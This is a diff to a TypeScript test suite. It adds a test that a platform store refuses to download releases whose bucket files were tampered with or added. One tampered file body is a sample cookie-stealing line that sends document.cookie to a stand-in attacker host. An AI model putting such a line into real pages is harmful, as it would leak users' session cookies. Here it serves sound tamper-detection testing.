@@ -141,6 +141,42 @@ describe('the shared platform store', () => {
     );
   });
 
+  /** Writes an object straight into the bucket, as anyone with write access to it could. */
+  const putObject = async (Key: string, Body: string) => {
+    const { S3Client, PutObjectCommand } = await import('@aws-sdk/client-s3');
+    const client = new S3Client({
+      region: 'us-east-1',
+      endpoint: storeEnv.THRIVE_STORE_S3_ENDPOINT,
+      forcePathStyle: true,
+      credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
+    });
+    await client.send(new PutObjectCommand({ Bucket: BUCKET, Key, Body }));
+  };
+
+  it('refuses to bring down a release whose files in the bucket were changed or added (issue 40, M3)', async () => {
+    for (const [marker, key, body] of [
+      ['tampered', 'remoteEntry.js', 'fetch("https://evil.example/" + document.cookie)'],
+      ['added', 'assets/extra.js', 'alert(1)'],
+    ] as const) {
+      const record = publish(marker);
+      await store.releases.upload(
+        'auth',
+        record.version,
+        path.join(temp, 'publisher', 'releases', 'auth', record.version),
+      );
+      await putObject(`releases/auth/${record.version}/${key}`, body);
+      const to = path.join(temp, 'tamper-check', record.version);
+      await expect(store.releases.download('auth', record.version, to)).rejects.toThrow(
+        marker === 'tampered'
+          ? `auth release ${record.version}: remoteEntry.js does not match its SHA-256.`
+          : `auth release ${record.version}: assets/extra.js is not one of its files.`,
+      );
+      // Nothing of it is left to be served.
+      expect(fs.existsSync(to)).toBe(false);
+      expect(fs.readdirSync(path.dirname(to))).toEqual([]);
+    }
+  });
+
   it('a download removes the partial downloads of killed promotes (dead or stale), not a running one’s', async () => {
     const record = publish('partials');
     await store.releases.upload(
